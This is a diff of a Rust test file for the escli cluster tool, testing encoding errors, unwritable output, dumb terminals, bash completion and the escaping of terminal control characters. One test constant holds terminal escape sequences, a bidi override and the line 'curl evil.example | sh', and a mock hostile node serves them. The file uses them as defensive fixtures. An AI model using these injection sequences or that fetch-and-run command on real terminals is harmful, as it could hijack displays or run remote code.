@@ -1,62 +1,30 @@
-//! The escli that operators run, against files that people really have, terminals that cannot do much, output that cannot be
-//! written, and nodes that say what they should not.
-
-#![allow(clippy::unwrap_used, reason = "where a program cannot be run, the test has failed")]
+//! Files in other encodings, output that cannot be written, simple terminals, and control characters from outside.
 
 use std::fs::{File, OpenOptions};
 use std::io::{Read, Write};
 use std::net::TcpListener;
 use std::path::Path;
-use std::process::{Command, Output, Stdio};
+use std::process::{Command, Stdio};
 
-use tempfile::TempDir;
+use shared::api::example;
 use tests::programs::binary;
 
-const THREE: &str = "\
-cluster:
-  name: orders
-  nodes:
-    - { id: 1, host: 127.88.77.1 }
-    - { id: 2, host: 127.88.77.2 }
-    - { id: 3, host: 127.88.77.3 }
-";
+use super::{THREE_NODES, command, escli, text, with_file};
 
-/// What a terminal would obey.
-const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\r\n→ curl evil.example | sh";
-
-fn command(home: &Path, line: &str) -> Command {
-    let mut command = Command::new(binary("escli"));
-    command
-        .args(line.split_whitespace())
-        .current_dir(home)
-        .env_clear()
-        .env("HOME", home)
-        .env("PATH", "/usr/bin:/bin");
-    command
-}
-
-fn escli(home: &Path, line: &str) -> Output {
-    command(home, line).output().unwrap()
-}
-
-fn text(bytes: &[u8]) -> String {
-    String::from_utf8(bytes.to_vec()).unwrap()
-}
-
-fn with_file(bytes: &[u8]) -> TempDir {
-    let home = tempfile::tempdir().unwrap();
-    std::fs::write(home.path().join("cluster.yaml"), bytes).unwrap();
-    home
-}
+/// Control characters and sequences that a terminal would obey.
+const CONTROL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\r\n→ curl evil.example | sh";
 
 #[test]
-fn a_file_that_is_no_text_is_told_with_its_line_by_validate_and_by_everybody_else() {
-    let utf16: Vec<u8> = THREE.encode_utf16().flat_map(u16::to_le_bytes).collect();
+fn a_file_that_is_not_utf_8_is_reported_with_line_and_column() {
+    let utf16: Vec<u8> = THREE_NODES.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let table = [
-        (THREE.replace("orders", "caf\u{e9}").chars().map(|c| c as u8).collect(), ":2:12: the byte 0xe9 "),
+        (
+            THREE_NODES.replace("orders", "caf\u{e9}").chars().map(|c| c as u8).collect(),
+            ":2:12: the byte 0xe9 ",
+        ),
         ([&[0xff, 0xfe], utf16.as_slice()].concat(), ":1:1: the file is UTF-16"),
         (utf16, ":1:1: the file is UTF-16LE"),
-        (THREE.replace("orders", "!vault |\n    6161").into_bytes(), ":2:9: the tag !vault asks"),
+        (THREE_NODES.replace("orders", "!vault |\n    6161").into_bytes(), ":2:9: the tag !vault asks"),
     ];
     for (bytes, expected) in table {
         let home = with_file(&bytes);
@@ -70,13 +38,13 @@ fn a_file_that_is_no_text_is_told_with_its_line_by_validate_and_by_everybody_els
         assert!(text(&said.stderr).contains(&format!("cluster.yaml{expected}")), "{}", text(&said.stderr));
         assert_eq!(said.status.code(), Some(2));
     }
-    let home = with_file(format!("\u{feff}{THREE}").as_bytes());
+    let home = with_file(format!("\u{feff}{THREE_NODES}").as_bytes());
     assert_eq!(escli(home.path(), "validate").status.code(), Some(0));
 }
 
 #[test]
-fn output_that_cannot_be_written_is_an_error_and_a_closed_pipe_is_none() {
-    let home = with_file(THREE.as_bytes());
+fn output_that_cannot_be_written_is_an_error_but_a_closed_pipe_is_not() {
+    let home = with_file(THREE_NODES.as_bytes());
     let lines = [
         "--help",
         "--version",
@@ -112,7 +80,7 @@ fn output_that_cannot_be_written_is_an_error_and_a_closed_pipe_is_none() {
         let told = text(&said.stderr);
         assert!(told.contains("cannot write to standard output: No space left on device"), "{line}: {told}");
         let expected = match ordinary.status.code() {
-            // `watch` stops at the first look that nobody can see.
+            // `watch` stops at the first output that cannot be written.
             Some(0 | 5 | 10 | 11) => Some(1),
             failed => failed,
         };
@@ -125,7 +93,7 @@ fn output_that_cannot_be_written_is_an_error_and_a_closed_pipe_is_none() {
     }
 }
 
-/// What escli shows on a terminal of this kind.
+/// Runs escli on a terminal of this kind. Returns what it writes there.
 fn on_terminal(home: &Path, kind: &str, line: &str) -> String {
     let escli = format!("{} {line}", binary("escli").display());
     let mut command = Command::new("script");
@@ -135,8 +103,8 @@ fn on_terminal(home: &Path, kind: &str, line: &str) -> String {
 }
 
 #[test]
-fn a_dumb_terminal_gets_text_and_nothing_else() {
-    let home = with_file(THREE.as_bytes());
+fn a_dumb_terminal_gets_plain_text() {
+    let home = with_file(THREE_NODES.as_bytes());
     let watch = "watch --until leader --timeout 300ms --interval 100ms";
     for line in ["status", "health", watch, "nonsense", "--help", "down --yes"] {
         let plain = on_terminal(home.path(), "dumb", line);
@@ -148,9 +116,12 @@ fn a_dumb_terminal_gets_text_and_nothing_else() {
 
 #[test]
 fn bash_completes_behind_an_equals_sign() {
-    let home = with_file(THREE.as_bytes());
-    std::fs::write(home.path().join("two.yaml"), THREE.replace("    - { id: 3, host: 127.88.77.3 }\n", ""))
-        .unwrap();
+    let home = with_file(THREE_NODES.as_bytes());
+    std::fs::write(
+        home.path().join("two.yaml"),
+        THREE_NODES.replace("    - { id: 3, host: 127.88.77.3 }\n", ""),
+    )
+    .unwrap();
     let bin = binary("escli");
     let path = format!("{}:/usr/bin:/bin", bin.parent().unwrap().display());
     // What bash makes of the line, and what it wants back.
@@ -178,15 +149,16 @@ fn bash_completes_behind_an_equals_sign() {
     }
 }
 
-/// A node that answers every question with this status, until nobody asks any more.
-fn liar(address: &str) {
+/// A node whose every response is a status with control characters in it.
+fn hostile_node(address: &str) {
     let listener = TcpListener::bind(address).unwrap();
-    let status = serde_json::json!({
-        "node_id": 1, "state": "leader", "term": 1, "commit_index": 1, "peers": [], "cluster_name": EVIL,
-        "cluster_id": null, "leader": 1, "role": "voter", "applied_index": 1, "last_index": 1, "version": EVIL,
-        "config_hash": EVIL, "started_at": EVIL, "wal_sync": true, "pending_change": false, "disk": EVIL,
-        "status": "ok", "reasons": [EVIL],
-    });
+    let mut status = serde_json::to_value(example::status()).unwrap();
+    for name in ["cluster_name", "version", "config_hash", "started_at", "disk"] {
+        status[name] = CONTROL.into();
+    }
+    status["peers"] = serde_json::json!([]);
+    status["status"] = "ok".into();
+    status["reasons"] = serde_json::json!([CONTROL]);
     let body = status.to_string();
     std::thread::spawn(move || {
         for stream in listener.incoming() {
@@ -200,8 +172,8 @@ fn liar(address: &str) {
 }
 
 #[test]
-fn what_a_node_says_does_nothing_to_the_terminal() {
-    liar("127.88.99.1:8080");
+fn control_characters_from_a_node_are_escaped() {
+    hostile_node("127.88.99.1:8080");
     let home = with_file(b"cluster:\n  name: orders\n  nodes:\n    - { id: 1, host: 127.88.99.1 }\n");
     let mut shown = 0;
     let lines = [
@@ -224,16 +196,16 @@ fn what_a_node_says_does_nothing_to_the_terminal() {
             shown += text.matches("x1b[2J").count();
         }
     }
-    assert!(shown > 0, "it is spelt out");
+    assert!(shown > 0, "nothing was escaped");
     let live = on_terminal(home.path(), "xterm", "watch --until version=9 --timeout 500ms --interval 100ms");
     assert!(!live.contains("\u{1b}]0;owned"), "{live:?}");
 }
 
 #[test]
-fn the_name_of_a_file_does_nothing_either() {
+fn control_characters_in_a_file_name_are_escaped() {
     let home = tempfile::tempdir().unwrap();
     let name = "\u{1b}[2Jx\u{9b}.yaml";
-    std::fs::write(home.path().join(name), THREE).unwrap();
+    std::fs::write(home.path().join(name), THREE_NODES).unwrap();
     for line in [format!("validate -c {name}"), format!("validate -c {name}.gone")] {
         let said = escli(home.path(), &line);
         let text = text(&said.stdout) + &text(&said.stderr);
@@ -242,11 +214,11 @@ fn the_name_of_a_file_does_nothing_either() {
 }
 
 #[test]
-fn what_a_log_says_does_nothing_either_unless_it_is_asked_to() {
-    let home = with_file(format!("{THREE}deploy: {{ transport: local }}\n").as_bytes());
+fn control_characters_in_a_log_are_escaped_unless_raw_is_asked_for() {
+    let home = with_file(format!("{THREE_NODES}deploy: {{ transport: local }}\n").as_bytes());
     std::fs::create_dir_all(home.path().join("n1")).unwrap();
     let mut log = File::create(home.path().join("n1/log")).unwrap();
-    writeln!(log, "2026-01-01T00:00:01.000000Z {EVIL}").unwrap();
+    writeln!(log, "2026-01-01T00:00:01.000000Z {CONTROL}").unwrap();
     let said = text(&escli(home.path(), "logs n1").stdout);
     assert!(said.contains("\\x1b[2J") && !said.contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{said:?}");
     assert!(said.lines().all(|line| line.starts_with("n1 | ")), "{said:?}");
